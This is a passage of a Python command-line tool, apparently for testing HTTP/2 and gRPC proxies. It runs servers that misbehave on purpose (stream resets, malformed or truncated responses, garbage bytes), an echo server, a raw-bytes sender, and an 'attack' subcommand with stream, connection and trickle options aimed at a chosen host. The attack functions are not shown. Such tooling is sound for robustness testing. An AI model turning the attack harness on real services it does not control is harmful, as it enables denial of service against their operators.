                sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                buf = buf[9 + n:]
                if ftype == SETTINGS and not flags & ACK:
                    self.send(settings(ack=True))
                elif ftype == PING and not flags & ACK:
                    self.send(ping(ack=True))
                elif ftype == HEADERS and sid not in open_streams:
                    open_streams.add(sid)
                    if not self.answer(sid):
                        return

    def answer(self, sid):
        """Answer a new stream; False: the connection is done."""
        self.log(event="stream", stream=sid, mode=self.mode)
        if self.mode == "mcs1":
            with self.out:
                refuse, self.busy = self.busy is not None, self.busy or sid
            if refuse:  # RFC 9113 5.1.2: over the advertised limit
                self.log(event="refused", stream=sid)
                self.send(rst_stream(sid, CODE["REFUSED_STREAM"]))
            else:
                threading.Thread(target=self.respond_ok, args=(sid,), daemon=True).start()
        elif self.mode == "mcs0":
            # Every stream is over a limit of 0 (RFC 9113 5.1.2); a client can
            # only have sent it before it saw these SETTINGS.
            self.log(event="refused", stream=sid)
            self.send(rst_stream(sid, CODE["REFUSED_STREAM"]))
        elif self.mode == "reset":
            self.send(rst_stream(sid, CODE[self.args.rst_code]))
        elif self.mode == "malformed":
            # A response without :status (RFC 9113 8.3.2: malformed).
            self.send(headers(sid, encode([("content-type", "application/grpc")]),
                              end_stream=True))
        elif self.mode == "garbage":
            self.send(b"\xff" * 9 + b"this is not HTTP/2")
        elif self.mode in ("mid-body", "no-trailers"):
            self.send(headers(sid, encode(response_fields())))
            msg = grpc_message(b'{"pod":"hostile"}\n' + b"x" * 1000)
            self.send(data(sid, msg if self.mode == "no-trailers" else msg[:100]))
            time.sleep(0.05)
            self.log(event="closing", stream=sid)
            try:
                self.sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            self.sock.close()
            return False
        return True


    def respond_ok(self, sid):
        """A complete gRPC response after --delay-ms, then take the next stream."""
        time.sleep(self.args.delay_ms / 1000)
        ip, port = self.peer[0], self.peer[1]
        if ip.startswith("::ffff:"):
            ip = ip[7:]
        head = json.dumps({"pod": self.args.pod, "peer": f"ipv4:{ip}:{port}", "seq": 0})
        self.send(headers(sid, encode(response_fields())) +
                  data(sid, grpc_message(head.encode() + b"\n")) +
                  headers(sid, encode([("grpc-status", "0")]), end_stream=True))
        with self.out:
            self.busy = None


def serve(mode, port, args):
    s = socket.socket(socket.AF_INET6)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", port))
    s.listen(512)
    print(json.dumps({"ready": mode, "port": port}), flush=True)
    while True:
        conn, peer = s.accept()
        sc = ServerConn(conn, peer, mode, args)
        threading.Thread(target=sc.run, daemon=True).start()


def echo_server(port):
    s = socket.socket(socket.AF_INET6)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", port))
    s.listen(512)
    print(json.dumps({"ready": "echo", "port": port}), flush=True)

    def handle(conn, peer):
        with conn:
            got = 0
            while True:
                b = conn.recv(65536)
                if not b:
                    break
                got += len(b)
                conn.sendall(b)
            print(json.dumps({"peer": peer[0], "echoed": got}), flush=True)

    while True:
        conn, peer = s.accept()
        threading.Thread(target=handle, args=(conn, peer), daemon=True).start()


def send_raw(host, port, payload, split, pause_ms, seconds):
    """Send ``payload`` (``split`` bytes first, a pause, the rest); return what
    came back within ``seconds`` of the last byte (or until the peer closed)."""
    sock = socket.create_connection((host, port), timeout=seconds)
    got = b""
    parts = [payload[:split], payload[split:]] if split else [payload]
    for i, p in enumerate(parts):
        if i:
            time.sleep(pause_ms / 1000)
        sock.sendall(p)
    deadline = time.monotonic() + seconds
    while len(got) < len(payload) and time.monotonic() < deadline:
        r, _, _ = select.select([sock], [], [], max(0.0, deadline - time.monotonic()))
        if not r:
            break
        b = sock.recv(65536)
        if not b:
            break
        got += b
    sock.close()
    return got


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    at = sub.add_parser("attack")
    at.add_argument("name", choices=sorted(ATTACKS) + ["invalid"])
    at.add_argument("host")
    at.add_argument("port", type=int)
    at.add_argument("--n", type=int, default=10000)
    at.add_argument("--streams", type=int, default=1)
    at.add_argument("--seconds", type=float, default=10)
    at.add_argument("--pause-ms", type=float, default=20)
    at.add_argument("--trickle", choices=("preface", "request", "all"), default="request")
    at.add_argument("--case", default=None)
    at.add_argument("--authority", default="echo")
    at.add_argument("--connections", type=int, default=1,
                    help="repeat on this many fresh connections, one after another")
    sv = sub.add_parser("serve")
    sv.add_argument("mode", choices=SERVER_MODES)
    sv.add_argument("--port", type=int, default=50051)
    sv.add_argument("--rst-code", default="INTERNAL_ERROR", choices=ERRORS)
    sv.add_argument("--delay-ms", type=float, default=100)
    sv.add_argument("--pod", default="hostile")
    ec = sub.add_parser("echo")
    ec.add_argument("--port", type=int, default=9000)
    sr = sub.add_parser("send-raw")
    sr.add_argument("host")
    sr.add_argument("port", type=int)
    sr.add_argument("hex")
    sr.add_argument("--split", type=int, default=0)
    sr.add_argument("--pause-ms", type=float, default=0)
    sr.add_argument("--seconds", type=float, default=5)
    a = ap.parse_args(argv)
    if a.cmd == "serve":
        serve(a.mode, a.port, a)
    elif a.cmd == "echo":
        echo_server(a.port)
    elif a.cmd == "send-raw":
        payload = bytes.fromhex(a.hex)
        got = send_raw(a.host, a.port, payload, a.split, a.pause_ms, a.seconds)
        print(json.dumps({"sent": payload.hex(), "got": got.hex()}))
    else:
        fn = attack_invalid if a.name == "invalid" else ATTACKS[a.name]
        runs = []
        for _ in range(a.connections):
            c, out = fn(a)
            c.close()
            runs.append(out)
        out = dict(runs[0]) if a.connections == 1 else {"runs": runs}
        out["attack"] = a.name
        print(json.dumps(out), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
